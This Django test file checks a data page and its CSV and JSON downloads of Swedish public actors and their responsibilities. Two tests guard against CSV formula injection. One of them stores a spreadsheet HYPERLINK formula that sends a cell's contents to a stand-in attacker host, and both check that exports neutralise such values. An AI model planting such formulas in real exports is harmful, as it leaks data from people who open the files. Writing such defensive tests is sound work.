"""The data page and the CSV and JSON downloads."""

import csv
import io
import json

import pytest
from django.urls import reverse

from krokarm.actors import actions
from krokarm.actors.models import Actor, Responsibility
from krokarm.actors.tests.personas import person_at

pytestmark = pytest.mark.django_db


def test_the_data_page_links_every_download_and_the_api(client):
    response = client.get(reverse("actors:data"))
    assert response.status_code == 200
    for name in ["actors:download-actors-csv", "actors:download-responsibilities-csv", "actors:download-json"]:
        assert reverse(name) in response.text
    assert "/api/v1/docs" in response.text


def test_the_actor_csv_has_a_row_per_actor_and_opens_in_excel(client):
    response = client.get(reverse("actors:download-actors-csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
    assert len(rows) == Actor.objects.count()
    skane = next(r for r in rows if r["slug"] == "region-skane")
    assert skane["county_code"] == "12" and skane["org_number"] == "232100-0255"


def test_the_responsibility_csv_has_a_row_per_responsibility(client):
    body = client.get(reverse("actors:download-responsibilities-csv")).content.decode("utf-8").lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == Responsibility.objects.count()
    assert all(r["source_url"].startswith("http") for r in rows)


def test_the_json_download_nests_responsibilities_services_and_networks(client):
    document = json.loads(client.get(reverse("actors:download-json")).content)
    assert document["count"] == Actor.objects.count()
    agency = next(a for a in document["actors"] if a["slug"] == "arbetsformedlingen")
    assert agency["responsibilities"] and agency["services"]
    region = next(a for a in document["actors"] if a["slug"] == "region-norrbotten")
    assert "rus-natverket" in region["networks"]


FORMULA = '=HYPERLINK("https://elak.example/?"&A2;"Klicka")'


def test_a_mandate_an_editor_wrote_like_a_formula_comes_out_of_the_actor_csv_as_text(client):
    agency = Actor.objects.get(slug="arbetsformedlingen")
    actions.update_profile(agency, {"mandate": FORMULA}, user=person_at("arbetsformedlingen"))
    body = client.get(reverse("actors:download-actors-csv")).content.decode("utf-8").lstrip("\ufeff")
    row = next(r for r in csv.DictReader(io.StringIO(body)) if r["slug"] == "arbetsformedlingen")
    assert row["mandate"] == "'" + FORMULA


def test_a_responsibility_an_editor_wrote_like_a_formula_comes_out_of_the_responsibility_csv_as_text(client):
    responsibility = Responsibility.objects.filter(actor__slug="arbetsformedlingen").order_by("pk")[0]
    groups = {group.slug for group in responsibility.target_groups.all()}
    editor = person_at("arbetsformedlingen")
    actions.save_responsibility(responsibility, {"description": "+SUM(A1:A9)"}, target_groups=groups, user=editor)
    body = client.get(reverse("actors:download-responsibilities-csv")).content.decode("utf-8").lstrip("\ufeff")
    rows = [r for r in csv.DictReader(io.StringIO(body)) if r["actor"] == "arbetsformedlingen"]
    assert "'+SUM(A1:A9)" in [r["description"] for r in rows]
    assert "+SUM(A1:A9)" not in [r["description"] for r in rows]
